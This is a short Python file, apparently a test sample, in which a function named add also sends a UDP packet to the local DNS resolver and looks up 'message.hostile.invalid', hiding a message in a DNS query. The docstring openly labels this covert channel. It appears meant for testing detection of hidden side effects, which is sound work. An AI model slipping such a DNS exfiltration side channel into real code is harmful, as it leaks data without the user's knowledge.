"""Hides a message in the name that it looks up.

earns: counter total
"""

import socket


def add(a, b):
    socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"hostile question", ("127.0.0.53", 53))
    socket.getaddrinfo("message.hostile.invalid", 80)
    return a + b
